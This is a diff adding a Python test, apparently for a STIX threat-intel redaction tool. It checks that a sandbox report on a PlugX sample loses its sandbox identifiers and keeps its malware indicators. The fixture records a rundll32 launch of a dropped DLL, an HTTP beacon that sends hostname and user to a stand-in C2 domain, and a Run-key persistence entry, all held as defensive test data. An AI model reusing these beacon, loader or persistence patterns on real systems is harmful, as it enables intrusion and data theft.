@@ -727,3 +727,162 @@ def test_channel_expressions_are_linear_on_one_megabyte_inputs() -> None:
         text = chunk * ((1 << 20) // len(chunk))
         result = run([me(), process(1, text), observed(i("process", 1))])
         assert len(of_type(result, "process")) <= 1
+
+
+def test_a_sandbox_report_keeps_the_malware_s_behaviour_and_loses_the_sandbox() -> None:
+    ids = {
+        name: i(t, n)
+        for n, (name, t) in enumerate(
+            [
+                ("sample", "file"),
+                ("vm", "software"),
+                ("os", "software"),
+                ("proc", "process"),
+                ("child", "process"),
+                ("c2ip", "ipv4-addr"),
+                ("vmip", "ipv4-addr"),
+                ("c2", "domain-name"),
+                ("flow", "network-traffic"),
+                ("drop", "file"),
+                ("dropdir", "directory"),
+                ("beacon", "url"),
+                ("key", "windows-registry-key"),
+            ],
+            start=1,
+        )
+    }
+    objs = [
+        me(),
+        {
+            **SCO,
+            "type": "file",
+            "id": ids["sample"],
+            "name": "請求書_0305.exe",
+            "hashes": {"SHA-256": "5" * 64, "MD5": "6" * 32},
+        },
+        {**SCO, "type": "software", "id": ids["vm"], "name": "KHI-SBX-07 gold image"},
+        {**SCO, "type": "software", "id": ids["os"], "name": "Windows 10", "version": "1909"},
+        {
+            **SCO,
+            "type": "process",
+            "id": ids["proc"],
+            "pid": 4120,
+            "command_line": "C:\\Users\\khi-sbx-admin\\Desktop\\請求書_0305.exe /install",
+            "cwd": "C:\\Users\\khi-sbx-admin\\Desktop\\",
+            "child_refs": [ids["child"]],
+            "environment_variables": {"COMPUTERNAME": "KHI-SBX-07", "USERNAME": "khi-sbx-admin"},
+        },
+        {
+            **SCO,
+            "type": "process",
+            "id": ids["child"],
+            "pid": 4188,
+            "command_line": "rundll32.exe C:\\ProgramData\\svc\\plug.dll,Start -s update-check."
+            "evil-cdn.top -ComputerName KHI-SBX-07",
+        },
+        {**SCO, "type": "ipv4-addr", "id": ids["c2ip"], "value": "45.77.12.9"},
+        {**SCO, "type": "ipv4-addr", "id": ids["vmip"], "value": "192.168.56.101"},
+        {
+            **SCO,
+            "type": "domain-name",
+            "id": ids["c2"],
+            "value": "update-check.evil-cdn.top",
+            "resolves_to_refs": [ids["c2ip"]],
+        },
+        {
+            **SCO,
+            "type": "network-traffic",
+            "id": ids["flow"],
+            "src_ref": ids["vmip"],
+            "dst_ref": ids["c2ip"],
+            "dst_port": 443,
+            "protocols": ["ipv4", "tcp", "http"],
+            "extensions": {
+                "http-request-ext": {
+                    "request_method": "get",
+                    "request_value": "/news.php?hostname=KHI-SBX-07&user=khi-sbx-admin&ver=2",
+                    "request_header": {"Host": "update-check.evil-cdn.top"},
+                }
+            },
+        },
+        {**SCO, "type": "directory", "id": ids["dropdir"], "path": "C:\\ProgramData\\svc"},
+        {
+            **SCO,
+            "type": "file",
+            "id": ids["drop"],
+            "name": "plug.dll",
+            "parent_directory_ref": ids["dropdir"],
+            "hashes": {"SHA-256": "7" * 64},
+        },
+        {
+            **SCO,
+            "type": "url",
+            "id": ids["beacon"],
+            "value": "https://update-check.evil-cdn.top/news.php?hostname=KHI-SBX-07&ver=2",
+        },
+        {
+            **SCO,
+            "type": "windows-registry-key",
+            "id": ids["key"],
+            "key": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
+            "values": [
+                {"name": "svc", "data": "C:\\ProgramData\\svc\\plug.dll", "data_type": "REG_SZ"}
+            ],
+        },
+        {
+            **SDO,
+            "type": "malware-analysis",
+            "id": i("malware-analysis", 1),
+            "product": "KHI Sandbox",
+            "version": "5.1",
+            "host_vm_ref": ids["vm"],
+            "operating_system_ref": ids["os"],
+            "analysis_started": T,
+            "result": "malicious",
+            "sample_ref": ids["sample"],
+            "analysis_sco_refs": [
+                ids[k]
+                for k in (
+                    "proc",
+                    "child",
+                    "c2ip",
+                    "vmip",
+                    "c2",
+                    "flow",
+                    "drop",
+                    "dropdir",
+                    "beacon",
+                    "key",
+                )
+            ],
+        },
+        {
+            **SDO,
+            "type": "malware",
+            "id": i("malware", 1),
+            "name": "PlugX",
+            "is_family": True,
+            "sample_refs": [ids["sample"]],
+        },
+    ]
+    result = run(objs)
+    parse(result.objects)
+    out = blob(result)
+    for secret in ("khi-sbx", "khi sandbox", "192.168.56.101", "gold image"):
+        assert secret not in out, secret
+    for kept in (
+        "update-check.evil-cdn.top",
+        "45.77.12.9",
+        "5" * 64,
+        "7" * 64,
+        "plug.dll",
+        "c:\\\\programdata\\\\svc",
+        "/news.php?hostname=[redacted:hostname]",
+        "currentversion\\\\run",
+        "plugx",
+        "請求書_0305.exe",
+    ):
+        assert kept in out, kept
+    analysis = of_type(result, "malware-analysis")[0]
+    assert analysis["product"] == "sandbox" and len(analysis["analysis_sco_refs"]) == 9
+    idempotent(result)
